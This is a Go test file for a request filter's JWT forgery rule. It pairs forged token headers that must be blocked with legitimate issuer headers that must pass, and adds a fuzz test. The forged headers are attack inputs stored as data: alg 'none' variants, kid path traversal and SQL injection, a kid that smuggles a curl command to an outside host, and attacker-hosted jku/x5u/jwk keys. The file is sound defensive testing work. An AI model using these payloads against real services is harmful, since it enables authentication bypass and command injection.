package filter

import (
	"encoding/base64"
	"testing"
)

// jwtWith builds a token of the given protected header; the claims and
// signature are what any token carries, since only the header is judged.
func jwtWith(header string) string {
	enc := base64.RawURLEncoding.EncodeToString
	return enc([]byte(header)) + "." + enc([]byte(`{"sub":"u_1","exp":4102444800}`)) + ".c2lnbmF0dXJl"
}

func TestJWTForgery(t *testing.T) {
	eng := mustEngine(t, Config{})
	tests := []struct {
		header string
		forged bool
	}{
		{`{"alg":"none","typ":"JWT"}`, true},
		{`{"alg":"nOnE"}`, true},
		{`{"typ":"JWT","alg":"NONE"}`, true},
		{`{"alg":"HS256","kid":"../../../../../../dev/null"}`, true},
		{`{"alg":"HS256","kid":"/proc/sys/kernel/randomize_va_space"}`, true},
		{`{"alg":"HS256","kid":"x' UNION SELECT 'KEY'-- -"}`, true},
		{`{"alg":"HS256","kid":"1 OR 1=1"}`, true},
		{`{"alg":"HS256","kid":"key.pem|curl http://198.51.100.23/$(whoami)"}`, true},
		{`{"alg":"RS256","jku":"https://x7k2q9.oast.fun/.well-known/jwks.json"}`, true},
		{`{"alg":"RS256","jku":"https://app.example.com@x7k2q9.example/jwks.json"}`, true},
		{`{"alg":"RS256","x5u":"http://198.51.100.23/cert.pem"}`, true},
		{`{"alg":"RS256","x5u":"https://198.51.100.23/cert.pem"}`, true},
		{`{"alg":"RS256","jwk":{"kty":"RSA","e":"AQAB","kid":"attacker","n":"tp_6eFCtOHPi9U"}}`, true},
		// What issuers write.
		{`{"alg":"RS256","typ":"JWT","kid":"k1-2024"}`, false},
		{`{"alg":"RS256","kid":"nOo3ZDrODXEK1jKWhXslHR_KXEg--x"}`, false},
		{`{"alg":"RS256","kid":"abcd+efGH/ijkl=","typ":"at+jwt"}`, false},
		{`{"alg":"ES256","kid":"6f1c2a9e-3b7d-4c2e-9f1a-0d5e8b7c6a41"}`, false},
		{`{"alg":"RS256","kid":"/keys/2024"}`, false},
		{`{"alg":"RS256","jku":"https://auth.example.com/.well-known/jwks.json"}`, false},
		{`{"alg":"ES256","typ":"dpop+jwt","jwk":{"kty":"EC","crv":"P-256","x":"l8tFrhx","y":"9VE4jf_"}}`, false},
		{`{"alg":"RS256","x5c":["MIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8AMIIBCgKCAQEA"]}`, false},
		{`{"alg":"HS256","kid":42}`, false},
	}
	for _, tc := range tests {
		tok := jwtWith(tc.header)
		for _, place := range []string{"bearer", "query", "cookie", "json"} {
			var d Decision
			var err error
			switch place {
			case "bearer":
				r := newReq("GET", "http://app.example.com/api/v1/me", "", "")
				r.Header.Set("Authorization", "Bearer "+tok)
				d, err = eng.Inspect(r)
			case "query":
				d, err = eng.Inspect(sendIn("query", "access_token", tok))
			case "cookie":
				d, err = eng.Inspect(sendInContext("cookie", "session", tok))
			default:
				d, err = eng.Inspect(sendIn("json", "token", tok))
			}
			if err != nil {
				t.Fatal(err)
			}
			got := false
			for _, m := range d.Matches {
				got = got || m.Rule == "jwt-header-forgery"
			}
			if got != tc.forged || d.Blocked != tc.forged {
				t.Errorf("%s %s: jwt-header-forgery=%v blocked=%v, want %v: %v", place, tc.header, got, d.Blocked, tc.forged, d.Matches)
			}
		}
	}
	// Not tokens: one part, bad base64, a header that is not JSON.
	for _, v := range []string{"eyJhbGciOiJub25lIn0", "eyJ!!!.eyJ.x", jwtWith(`alg none`), "Bearer eyJhbGciOiJub25lIn0"} {
		if jwtForgery(v) {
			t.Errorf("%q read as a forged token", v)
		}
	}
}

func FuzzJWTForgery(f *testing.F) {
	f.Add(jwtWith(`{"alg":"none"}`))
	f.Add("Bearer " + jwtWith(`{"kid":"../x"}`))
	f.Add("eyJ.eyJ.")
	f.Fuzz(func(t *testing.T, s string) {
		jwtForgery(s)
	})
}
